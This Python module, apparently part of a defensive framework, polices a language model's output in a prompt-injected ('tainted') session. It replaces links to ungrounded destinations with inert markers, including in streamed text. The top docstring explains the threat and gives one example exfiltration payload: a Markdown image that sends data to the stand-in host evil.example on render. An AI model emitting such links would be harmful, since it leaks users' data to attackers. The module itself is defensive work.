"""The model's own text in a tainted session: links to ungrounded destinations made inert.

A chat client that renders Markdown or HTML fetches an image with no click
(``![x](https://evil.example/p.png?d=<data>)``), and a link is one click from sending what
its URL carries. In a tainted session the model's text may be the attacker's; every
whitespace-delimited word of it is read for destinations exactly as declared content is
read by the sink gate (:func:`fak_core.sinks.embedded_destinations`: Markdown, HTML
attributes, character references, escapes, links nested in a query), and a word holding
one that the session's grounding does not allow is replaced by a marker,
``[link removed by fak: ungrounded destination evil[.]example]`` (the host written with
its dots bracketed, so no renderer links the marker itself).

:func:`police_text` does it to a whole text. :class:`TextStream` does it to a text that
arrives in pieces without letting any part of a word out before the word is decided: a
word is held until the white space after it (or the end), so plain text flows one word
behind; a word that grows past :data:`MAX_HELD_CHARS` without white space is decided as
it stands and, if it could start a link (it holds ``/``, ``:``, ``&``, ``%``, ``\\`` or
``@``) or names an ungrounded destination, replaced by the marker, the rest of it up to
the next white space dropped (fail closed). Linear: each character is read a bounded
number of times (a held word at most :data:`MAX_HELD_CHARS` long is read again only
when a piece arrives).
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field

import ada_url

from fak_core.sinks import embedded_destinations

__all__ = ["MAX_HELD_CHARS", "TextStream", "marker", "police_text"]

#: The longest word held back from a stream before it is decided as it stands.
MAX_HELD_CHARS = 4096
_WORDS = re.compile(r"\s+|\S+")
#: what a word cut at the bound could be the start of a link with
_LINKISH = frozenset("/:&%\\@")
#: what the marker never carries from a host: Markdown's and HTML's brackets, and the
#: ampersand that starts an HTML character reference
_MARKUP = frozenset("[]()<>`&")


def _host(dest: str) -> str:
    """The host a destination names by WHATWG's reading (an e-mail address, ``mailto:``
    or not, reads as userinfo before its domain), else its first 80 characters."""
    try:
        host = ada_url.URL(dest if "://" in dest else "http://" + dest).hostname
    except ValueError:
        host = ""
    return host or dest[:80]


def marker(dest: str) -> str:
    """What replaces a word naming ``dest``: its host, dots bracketed, any character that
    is not printable or that Markdown or HTML reads as markup written ``?`` (no link)."""
    host = "".join("?" if c in _MARKUP or not c.isprintable() else c for c in _host(dest))
    return f"[link removed by fak: ungrounded destination {host.replace('.', '[.]')}]"


def _ungrounded(word: str, grounded: Callable[[str], bool]) -> str | None:
    for dest in embedded_destinations(word):
        if not grounded(dest):
            return dest
    return None


def police_text(text: str, grounded: Callable[[str], bool]) -> tuple[str, list[str]]:
    """``text`` with each word naming an ungrounded destination replaced by its marker,
    white space kept; and the destinations removed, in order."""
    out: list[str] = []
    removed: list[str] = []
    for m in _WORDS.finditer(text):
        word = m.group()
        bad = None if word.isspace() else _ungrounded(word, grounded)
        if bad is None:
            out.append(word)
        else:
            out.append(marker(bad))
            removed.append(bad)
    return "".join(out), removed


@dataclass
class TextStream:
    """:func:`police_text` over a text that arrives in pieces (:meth:`feed`, then
    :meth:`end`); :attr:`removed` lists the destinations removed so far."""

    grounded: Callable[[str], bool]
    max_held: int = MAX_HELD_CHARS
    removed: list[str] = field(default_factory=list)
    _held: str = ""
    _dropping: bool = False  # inside a word cut at the bound: dropped up to white space

    def feed(self, piece: str) -> str:
        """What of the text so far may go to the client now."""
        out: list[str] = []
        if self._dropping:
            cut = next((i for i, c in enumerate(piece) if c.isspace()), None)
            if cut is None:
                return ""
            self._dropping = False
            piece = piece[cut:]
        text = self._held + piece
        end = len(text)
        while end and not text[end - 1].isspace():  # the last word may go on
            end -= 1
        if end:
            policed, removed = police_text(text[:end], self.grounded)
            out.append(policed)
            self.removed += removed
        self._held = text[end:]
        if len(self._held) > self.max_held:
            out.append(self._cut())
        return "".join(out)

    def _cut(self) -> str:
        """A held word past the bound: decided as it stands, fail closed (a word that could
        start a link is replaced as if it named the place it reads as)."""
        word, self._held = self._held, ""
        bad = _ungrounded(word, self.grounded)
        if bad is None:
            if _LINKISH.isdisjoint(word):
                return word
            bad = word
        self._dropping = True
        self.removed.append(bad)
        return marker(bad)

    def end(self) -> str:
        """The rest of the text, decided."""
        word, self._held = self._held, ""
        if self._dropping or not word:
            return ""
        policed, removed = police_text(word, self.grounded)
        self.removed += removed
        return policed
